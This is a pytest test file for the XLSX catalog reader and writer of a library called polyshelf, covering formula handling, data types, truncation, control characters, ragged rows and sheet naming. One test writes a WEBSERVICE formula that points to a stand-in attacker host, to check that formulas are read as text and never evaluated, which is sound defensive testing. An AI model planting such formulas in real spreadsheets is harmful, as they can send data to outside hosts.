from __future__ import annotations

import datetime
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference

from polyshelf.catalog import xlsx as xlsx_module
from polyshelf.catalog.cells import CELL_CHAR_LIMIT, RULE_CONTROL_CHARS, RULE_TOO_LONG
from polyshelf.catalog.model import MISSING, Row
from polyshelf.catalog.registry import open_reader, open_writer
from polyshelf.catalog.xlsx import RULE_SHEET_RENAMED, XlsxReader
from polyshelf.errors import InputError
from polyshelf.issues import Severity

from .contract import FORMULA_LIKE, CatalogFormatContract, read_table, write_table


class TestXlsxContract(CatalogFormatContract):
    suffix = ".xlsx"


def test_formula_like_text_is_a_string_cell_with_the_value_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, ["Value"], [Row((text,)) for text in [*FORMULA_LIKE, "#N/A"]])
    sheet = openpyxl.load_workbook(path)["Products"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [*FORMULA_LIKE, "#N/A"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_formulas_are_read_as_text_and_never_evaluated(tmp_path: Path) -> None:
    path = tmp_path / "formulas.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Price", "Total"])
    sheet.append([2, "=SUM(A2:A3)*2"])
    sheet.append([3, '=WEBSERVICE("http://attacker.example")'])
    workbook.save(path)

    _, rows = read_table(path)
    assert [row.values for row in rows] == [
        (2, "=SUM(A2:A3)*2"),
        (3, '=WEBSERVICE("http://attacker.example")'),
    ]


def test_strings_stay_strings_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, ["Code", "Qty", "Ratio", "Flag"], [Row(("0017", 17, 0.25, True))])
    _, rows = read_table(path)
    assert rows[0].values == ("0017", 17, 0.25, True)
    assert type(rows[0].values[0]) is str


def test_dates_and_number_formats_are_preserved(tmp_path: Path) -> None:
    source = tmp_path / "source.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Products"
    sheet.append(["Launch", "Zip", "Time", "Price"])
    sheet.append([datetime.datetime(2024, 3, 1), 17, datetime.time(9, 30), 19.5])
    formats = ["dd.mm.yyyy", "0000", "hh:mm", '"€"#,##0.00']
    for cell, number_format in zip(sheet[2], formats, strict=True):
        cell.number_format = number_format
    workbook.save(source)

    output = tmp_path / "output.xlsx"
    with open_reader(source) as reader, open_writer(output, like=reader) as writer:
        writer.write_sheet("Products", reader.header("Products"), reader.rows("Products"))

    reloaded = openpyxl.load_workbook(output)["Products"]
    (cells,) = reloaded.iter_rows(min_row=2)
    assert [cell.value for cell in cells] == [
        datetime.datetime(2024, 3, 1),
        17,
        datetime.time(9, 30),
        19.5,
    ]
    assert [cell.number_format for cell in cells] == formats


def test_text_longer_than_the_cell_limit_is_truncated_and_reported(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    issues = write_table(path, ["SKU", "Description"], [Row(("A-1", "x" * (CELL_CHAR_LIMIT + 10)))])
    _, rows = read_table(path)
    assert rows[0].values[1] == "x" * CELL_CHAR_LIMIT
    assert len(issues) == 1
    issue = issues[0]
    assert (issue.sheet, issue.row, issue.column) == ("Products", 2, "Description")
    assert issue.issue.rule_id == RULE_TOO_LONG
    assert issue.issue.severity is Severity.ERROR


def test_control_characters_are_removed_and_reported(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    issues = write_table(path, ["Name"], [Row(("bad\x00 \x07bell\x1b\ufffe text\tok\n",))])
    _, rows = read_table(path)
    assert rows[0].values == ("bad bell text\tok\n",)
    assert [(i.row, i.column, i.issue.rule_id, i.issue.params["count"]) for i in issues] == [
        (2, "Name", RULE_CONTROL_CHARS, "4")
    ]


def test_jsonl_extras_are_written_as_cells(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, ["A", "B", "C"], [Row((MISSING, ["red", "blue"], {"k": 1}))])
    _, rows = read_table(path)
    assert rows[0].values == (None, '["red", "blue"]', '{"k": 1}')


def test_every_sheet_is_kept_and_chartsheets_are_skipped(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.title = "Products"
    workbook.active.append(["SKU", "Name"])
    workbook.active.append(["A-1", "Mug"])
    workbook.create_sheet("Empty")
    chart = BarChart()
    chart.add_data(Reference(workbook["Products"], min_col=1, min_row=1, max_row=2))
    workbook.create_chartsheet("Chart").add_chart(chart)
    workbook.save(path)

    with open_reader(path) as reader:
        assert reader.sheet_names() == ["Products", "Empty"]
        assert reader.header("Empty") == []
        assert list(reader.rows("Empty")) == []
        assert [row.values for row in reader.rows("Products")] == [("A-1", "Mug")]


@pytest.fixture(params=["xml-survey", "openpyxl-survey"])
def survey(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Runs a test with the fast XML survey of a sheet's width, and with its fallback."""
    if request.param == "openpyxl-survey":
        monkeypatch.setattr(xlsx_module, "surveyed_width", lambda worksheet: None)
    return request.param


def test_ragged_rows_are_padded_and_a_wider_row_extends_the_header(
    tmp_path: Path, survey: str
) -> None:
    path = tmp_path / "ragged.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["SKU", "Name", "Note"])
    sheet.append(["A-1"])
    sheet.append(["A-2", "Mug", None, None, "extra"])
    sheet.append([])
    sheet.append(["A-3", "Cup"])
    sheet.append([])
    sheet["B10"].number_format = "0.00"  # formatted but empty: not data
    workbook.save(path)

    header, rows = read_table(path)
    assert header == ["SKU", "Name", "Note", "", ""]
    assert [row.values for row in rows] == [
        ("A-1", None, None, None, None),
        ("A-2", "Mug", None, None, "extra"),
        (None, None, None, None, None),
        ("A-3", "Cup", None, None, None),
    ]


def test_cells_stored_without_references_are_placed_in_order(tmp_path: Path, survey: str) -> None:
    path = tmp_path / "unreferenced.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.title = "Products"
    for row in (["SKU", "Name"], ["A-1", "Mug", "=1+1"], ["A-2"]):
        workbook.active.append(row)
    workbook.save(path)
    _rewrite_zip_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'(<c[^>]*?) r="[A-Z]+\d+"', rb"\1", xml),
    )
    header, rows = read_table(path)
    assert header == ["SKU", "Name", ""]
    assert [row.values for row in rows] == [("A-1", "Mug", "=1+1"), ("A-2", None, None)]


def test_wrong_dimension_info_does_not_truncate(tmp_path: Path, survey: str) -> None:
    path = tmp_path / "dimension.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.title = "Products"
    for row in (["SKU", "Name", "Price"], ["A-1", "Mug", 3], ["A-2", "Cup", 4]):
        workbook.active.append(row)
    workbook.save(path)
    _rewrite_zip_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', xml),
    )

    header, rows = read_table(path)
    assert header == ["SKU", "Name", "Price"]
    assert [row.values for row in rows] == [("A-1", "Mug", 3), ("A-2", "Cup", 4)]


def test_merged_cells_read_as_stored(tmp_path: Path) -> None:
    path = tmp_path / "merged.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["SKU", "Name", "Color"])
    sheet.append(["A-1", "Mug", "Blue"])
    sheet.append(["A-2", None, None])
    sheet.merge_cells("B2:B3")
    workbook.save(path)
    _, rows = read_table(path)
    assert [row.values for row in rows] == [("A-1", "Mug", "Blue"), ("A-2", None, None)]


def test_xlsm_is_read_but_not_written(tmp_path: Path) -> None:
    path = tmp_path / "macro.xlsm"
    workbook = openpyxl.Workbook()
    workbook.active.append(["SKU"])
    workbook.active.append(["A-1"])
    workbook.save(path)
    assert read_table(path) == (["SKU"], [Row(("A-1",))])
    with pytest.raises(InputError, match=r"\.xlsm files cannot be written; supported: .*\.xlsx"):
        open_writer(tmp_path / "out.xlsm")


def test_reader_streams_in_read_only_mode(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    write_table(path, ["SKU"], [Row(("A-1",))])
    with XlsxReader(path) as reader:
        assert reader._workbook.read_only


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"SKU,Name\nA-1,Mug\n", "not a zip archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504, "password-protected"),
        (None, "without an Excel workbook inside"),
    ],
    ids=["text-file", "encrypted", "zip-without-workbook"],
)
def test_a_file_that_is_not_a_workbook_is_an_input_error(
    tmp_path: Path, content: bytes | None, reason: str
) -> None:
    path = tmp_path / "fake.xlsx"
    if content is None:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("hello.txt", "not a workbook")
    else:
        path.write_bytes(content)
    with pytest.raises(
        InputError, match=rf"fake\.xlsx is not a readable \.xlsx workbook \(.*{reason}"
    ):
        open_reader(path)


def test_sheet_names_are_made_valid_and_unique(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    with open_writer(path) as writer:
        writer.write_sheet("Q1/Q2: [draft]", ["A"], [])
        writer.write_sheet("q1_q2_ _draft_", ["A"], [])
        writer.write_sheet("A" * 40, ["A"], [])
    with open_reader(path) as reader:
        assert reader.sheet_names() == ["Q1_Q2_ _draft_", "q1_q2_ _draft_ (2)", "A" * 31]
    renamed = [issue for issue in writer.issues if issue.issue.rule_id == RULE_SHEET_RENAMED]
    assert [(issue.sheet, issue.row) for issue in renamed] == [
        ("Q1/Q2: [draft]", 0),
        ("q1_q2_ _draft_", 0),
        ("A" * 40, 0),
    ]


def test_aborted_writer_leaves_no_openpyxl_temp_files(tmp_path: Path) -> None:
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    before = set(ALL_TEMP_FILES)
    writer = open_writer(tmp_path / "out.xlsx")
    writer.write_sheet("Products", ["SKU"], [Row(("A-1",))])
    leftover = set(ALL_TEMP_FILES) - before
    assert leftover
    writer.abort()
    assert not any(os.path.exists(name) for name in leftover)
    assert os.listdir(tmp_path) == []


def _rewrite_zip_member(path: Path, member: str, change) -> None:
    with zipfile.ZipFile(path) as archive:
        contents = {info.filename: archive.read(info) for info in archive.infolist()}
    contents[member] = change(contents[member])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in contents.items():
            archive.writestr(name, data)
